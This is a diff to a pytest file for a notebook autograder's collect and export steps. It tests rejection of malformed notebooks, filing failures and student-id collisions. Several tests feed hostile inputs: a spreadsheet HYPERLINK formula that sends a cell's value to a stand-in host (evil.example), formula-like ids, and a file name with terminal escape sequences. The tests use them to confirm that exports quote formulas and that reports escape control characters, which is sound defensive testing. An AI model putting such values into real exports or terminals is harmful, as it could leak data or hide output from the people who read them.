@@ -5,6 +5,7 @@ from __future__ import annotations
 import datetime as dt
 import json
 import os
+import re
 import struct
 import time
 import zipfile
@@ -387,6 +388,14 @@ def test_bad_paths_raise_clear_errors(course, tmp_path):
     (tmp_path / "plain.txt").write_text("x")
     with pytest.raises(AutograderError, match="neither a folder nor a zip"):
         collect(course, tmp_path / "plain.txt")
+    (tmp_path / "class.tar.gz").write_bytes(b"\x1f\x8b\x08\x00")
+    with pytest.raises(AutograderError, match=r"class.tar.gz is an archive collect does not open \(.gz\); unpack it"):
+        collect(course, tmp_path / "class.tar.gz")
+    with zipfile.ZipFile(tmp_path / "outer.zip", "w") as zf:  # the LMS download zipped once more
+        zf.writestr("canvas.zip", b"PK\x05\x06" + bytes(18))
+    with pytest.raises(AutograderError, match=r"outer.zip holds only an archive \(canvas.zip\), which collect does not "
+                                              r"open: unpack the download inside and collect that"):
+        collect(course, tmp_path / "outer.zip")
     (tmp_path / "02-shapes-and-loss.ipynb").write_bytes(notebook_bytes("mailed"))
     with pytest.raises(AutograderError, match="is a single notebook; collect takes a folder or a .zip: put it in a "
                                               r"folder \(cp -p keeps"):
@@ -1566,3 +1575,198 @@ def test_a_misnamed_copy_losing_to_a_file_of_the_student_s_own_name_is_told_so(c
         "alice/00-vectors-shapes-and-gradients.ipynb",
         "duplicate: alice handed in 02-shapes-and-loss.ipynb more than once; kept alice/mywork.ipynb; this one is "
         "named 00-vectors-shapes-and-gradients.ipynb, after another notebook")]
+
+
+# --- one student's odd file or failed write never stops the class's collect ---------------------------------------
+
+def _surrogate_notebook() -> bytes:
+    """A notebook whose markdown holds a lone surrogate escape (valid JSON, no valid Unicode), with a byte-order mark,
+    which made collect re-encode it, and crash, while filing."""
+    text = notebook_bytes("x").decode().replace('"# x"', '"# x \\ud800"')
+    assert "\\ud800" in text
+    return b"\xef\xbb\xbf" + text.encode()
+
+
+@pytest.mark.parametrize("data, words", [
+    (b'{"cells": ' + b"[" * 3000 + b"]" * 3000 + b"}", "JSON nested too deeply"),
+    (b'{"cells": [], "n": ' + b"7" * 4400 + b"}", "invalid JSON (Exceeds the limit"),
+    (_surrogate_notebook(), "holds text that is no Unicode (cell 1"),
+], ids=["deep", "huge-number", "lone-surrogate"])
+def test_a_notebook_python_cannot_read_or_write_is_rejected_and_the_rest_is_filed(course, tmp_path, data, words):
+    """Each of these stopped collect with a traceback (RecursionError, ValueError, UnicodeEncodeError): nothing filed
+    for anyone, or, mid-filing, later students registered but never filed, and collect.json never written."""
+    with pytest.raises(NotANotebook, match=re.escape(words)):
+        read_notebook(data)
+    download = write_tree(tmp_path / "d", {"aaa/02-shapes-and-loss.ipynb": notebook_bytes("a"),
+                                           "odd/02-shapes-and-loss.ipynb": data,
+                                           "zzz/02-shapes-and-loss.ipynb": notebook_bytes("z")})
+    report = collect(course, download)
+    assert submitted(course, "aaa") and submitted(course, "zzz") and not submitted(course, "odd")
+    assert [(r.file, r.student) for r in report.rejected] == [("odd/02-shapes-and-loss.ipynb", "odd")]
+    assert words in report.rejected[0].reason
+    saved = json.loads((course.reports_dir / "collect.json").read_text(encoding="utf-8"))
+    assert sorted(saved["students"]) == ["aaa", "odd", "zzz"]
+
+
+def test_a_student_whose_files_cannot_be_written_is_reported_and_the_others_are_filed(course, tmp_path, monkeypatch):
+    import autograder.collect as collect_module
+
+    real = collect_module.write_submission
+
+    def failing(course, student, files, earlier_times=None):
+        if student == "bob":
+            raise OSError(28, "No space left on device")
+        return real(course, student, files, earlier_times)
+
+    monkeypatch.setattr(collect_module, "write_submission", failing)
+    download = write_tree(tmp_path / "d", {f"{s}/02-shapes-and-loss.ipynb": notebook_bytes(s) for s in ("ann", "bob", "cy")})
+    report = collect(course, download)
+    assert submitted(course, "ann") and submitted(course, "cy") and not submitted(course, "bob")
+    assert report.students["bob"].status == "not filed"
+    assert [(r.file, r.student) for r in report.rejected] == [("bob/02-shapes-and-loss.ipynb", "bob")]
+    assert "could not be filed (OSError: [Errno 28] No space left on device); collect again" in report.rejected[0].reason
+    assert not (course.step_dir("submitted", "bob").parent / ".incoming-part-ii").exists()
+    saved = json.loads((course.reports_dir / "collect.json").read_text(encoding="utf-8"))
+    assert saved["students"]["bob"]["status"] == "not filed" and saved["students"]["cy"]["status"] == "new"
+    monkeypatch.setattr(collect_module, "write_submission", real)
+    assert collect(course, download).students["bob"].status == "new"  # collected again, filed
+
+
+def test_a_download_that_holds_the_instructor_s_source_notebooks_is_refused(course):
+    repo = Path(__file__).resolve().parent.parent
+    for path, where in [(repo, "holds"), (course.source_dir, "is"), (course.source_dir / "sub", "is inside")]:
+        with pytest.raises(AutograderError, match=rf"{where} the instructor's source notebooks .* not the course's sources"):
+            collect(course, path)
+    assert course.submitted_students() == []
+
+
+# --- --student never files another student's work --------------------------------------------------------------
+
+@pytest.mark.parametrize("files, others, owner", [
+    ({"bob/00-vectors-shapes-and-gradients.ipynb": "b", "carl/02-shapes-and-loss.ipynb": "c"}, "bob, carl", None),
+    ({"hank_124_457_02-shapes-and-loss.ipynb": "h"}, "hank", "hank"),
+    ({"gina/work/02-shapes-and-loss.ipynb": "g", "gina/notes.txt": "n"}, "gina", "gina"),
+], ids=["two-folders", "canvas-name", "known-student-folder"])
+def test_student_option_refuses_a_download_whose_layout_names_another_student(course, tmp_path, files, others, owner):
+    """Only notebooks handed in by two students were refused: bob's 00 and carl's 02 were both filed as dana's."""
+    with course.gradebook() as gb:
+        gb.update_or_create_student("gina")
+    download = write_tree(tmp_path / "d", {k: notebook_bytes(v) for k, v in files.items()})
+    with pytest.raises(AutograderError, match=rf"--student dana: the download's file or folder names give other "
+                                              rf"students? \({others}\), whose files would be filed as dana's"):
+        collect(course, download, student="dana")
+    assert course.submitted_students() == []
+    if owner:  # the student the layout names is still collected as themself
+        assert list(collect(course, download, student=owner).students) == [owner]
+
+
+# --- ids: one student one id ------------------------------------------------------------------------------------
+
+def test_folders_that_give_one_id_or_ids_that_differ_only_in_case_are_refused_before_filing(course, tmp_path):
+    """'Zhang San/' and 'Zhang_San/' were merged into one student without a word; 'Uma/' beside the gradebook's uma
+    became a second student."""
+    merged = write_tree(tmp_path / "merged", {"Zhang San/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("a"),
+                                              "Zhang_San/02-shapes-and-loss.ipynb": notebook_bytes("b"),
+                                              "li/02-shapes-and-loss.ipynb": notebook_bytes("c")})
+    with pytest.raises(AutograderError, match=r"nothing was collected: the folders 'Zhang San' and 'Zhang_San' both "
+                                              r"give the student id Zhang_San"):
+        collect(course, merged)
+    with course.gradebook() as gb:
+        gb.update_or_create_student("uma")
+    cased = write_tree(tmp_path / "cased", {"Uma/02-shapes-and-loss.ipynb": notebook_bytes("u"),
+                                            "li/02-shapes-and-loss.ipynb": notebook_bytes("c")})
+    with pytest.raises(AutograderError, match=r"Uma differs from uma only in case \(ids are case-sensitive\)"):
+        collect(course, cased)
+    assert course.submitted_students() == []
+    moodle = write_tree(tmp_path / "moodle", {  # Moodle's two folders of one student are one id by design
+        "Zhang San_123_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("m"),
+        "Zhang San_123_assignsubmission_onlinetext_/onlinetext.html": b"<p>hi</p>"})
+    assert list(collect(course, moodle).students) == ["123"]
+
+
+# --- what collect and export show ---------------------------------------------------------------------------------
+
+def test_control_characters_in_file_names_are_printed_escaped(course, tmp_path, capsys):
+    from autograder.collect import print_report
+
+    with zipfile.ZipFile(tmp_path / "esc.zip", "w") as zf:
+        zf.writestr("ivan/02-shapes-and-loss.ipynb", notebook_bytes("i"))
+        zf.writestr("ivan/\x1b[1A\x1b[2Kcheat.txt", b"x")
+    print_report(collect(course, tmp_path / "esc.zip"))
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "ivan/\\x1b[1A\\x1b[2Kcheat.txt: " in out, out
+
+
+def test_exported_text_that_a_spreadsheet_would_run_as_a_formula_is_quoted(course, tmp_path):
+    import csv
+
+    from autograder.course import ASSIGNMENT
+    from autograder.export import export, not_graded
+
+    with course.gradebook() as gb:
+        gb.update_or_create_assignment(ASSIGNMENT)
+        gb.update_or_create_student("ivan", last_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+                                    first_name="+1+2")
+        gb.update_or_create_student("=1+2")  # an id of the roster's, never collected
+    collect(course, write_tree(tmp_path / "d", {"ivan/02-shapes-and-loss.ipynb": notebook_bytes("i")}))
+    grades_csv = export(course, bom=True)[0]
+    with open(grades_csv, newline="", encoding="utf-8-sig") as fh:
+        rows = {r["student_id"]: r for r in csv.DictReader(fh)}
+    assert sorted(rows) == ["'=1+2", "ivan"]
+    ivan = rows["ivan"]
+    assert ivan["last_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' and ivan["first_name"] == "'+1+2"
+    assert ivan["status"] == "not graded" and rows["'=1+2"]["score"] == "0"  # plain text and numbers unchanged
+    assert not_graded(grades_csv) == ["ivan"] and not_graded(grades_csv, "no submission") == ["=1+2"]  # read back
+
+
+@pytest.mark.parametrize("as_zip", [False, True], ids=["folder", "zip"])
+def test_a_large_file_that_is_no_notebook_is_streamed_not_held_in_memory(course, tmp_path, monkeypatch, as_zip):
+    """Every file of a download was read into memory up to 512 MiB each: four 400 MiB members of zeros (a 1.6 MB zip)
+    took 2 GB. A file that is no notebook needs its bytes only for a digest and its rejected copy."""
+    import autograder.collect as collect_module
+    from autograder.collect import read_download
+
+    monkeypatch.setattr(collect_module, "MAX_HELD_OTHER_BYTES", 1000)
+    big = bytes(range(256)) * 20  # 5,120 bytes
+    files = {"kim/02-shapes-and-loss.ipynb": notebook_bytes("k") + b" " * 2000, "kim/data.bin": big}
+    download = write_tree(tmp_path / "d", files)
+    if as_zip:
+        with zipfile.ZipFile(tmp_path / "d.zip", "w", compression=zipfile.ZIP_DEFLATED) as zf:
+            for rel in files:
+                zf.write(download / rel, rel)
+        download = tmp_path / "d.zip"
+    held = {str(e.path): (len(e.data), e.size) for e in read_download(download)[0]}
+    assert held == {"kim/02-shapes-and-loss.ipynb": (len(files["kim/02-shapes-and-loss.ipynb"]),) * 2,
+                    "kim/data.bin": (0, len(big))}
+    report = collect(course, download)
+    assert list(report.students["kim"].notebooks) == ["02-shapes-and-loss"]
+    [(file, reason, copy)] = [(r.file, r.reason, r.copy) for r in report.rejected]
+    assert file == "kim/data.bin" and reason.startswith("not a notebook") and Path(copy).read_bytes() == big
+
+
+def test_a_student_s_many_rejected_files_are_summed_up_in_the_report_and_the_csv(course, tmp_path, capsys):
+    """A handed-in venv of 1,500 files printed 1,505 lines and gave a notes cell of 129,763 characters (a
+    spreadsheet cell holds 32,767); the missing-notebook note came last."""
+    import csv
+
+    from autograder.collect import print_report
+    from autograder.course import ASSIGNMENT
+    from autograder.export import export
+
+    with course.gradebook() as gb:
+        gb.update_or_create_assignment(ASSIGNMENT)
+    files = {"abe/02-shapes-and-loss.ipynb": notebook_bytes("a"), "cat/02-shapes-and-loss.ipynb": notebook_bytes("c"),
+             **{f"abe/venv/mod_{i:02d}.py": b"x = 1\n" for i in range(25)}, "cat/notes.txt": b"n"}
+    report = collect(course, write_tree(tmp_path / "d", files))
+    assert len(report.rejected) == 26
+    print_report(report)
+    out = capsys.readouterr().out
+    assert out.count("abe/venv/mod_") == 10 and "abe/venv/mod_09.py" in out and "mod_10" not in out
+    assert "  … and 15 more of abe's (all in the course's reports/collect.json)\n" in out
+    assert "cat/notes.txt: not a notebook" in out
+    with open(export(course)[0], newline="", encoding="utf-8") as fh:
+        notes = {r["student_id"]: r["notes"] for r in csv.DictReader(fh)}
+    assert notes["abe"].count("rejected abe/venv/mod_") == 10
+    assert "… and 15 more rejected files (all in reports/collect.json)" in notes["abe"]
+    assert notes["abe"].endswith("missing 00-vectors-shapes-and-gradients.ipynb (scored 0); not graded yet; run "
+                                 "`python -m autograder grade`")
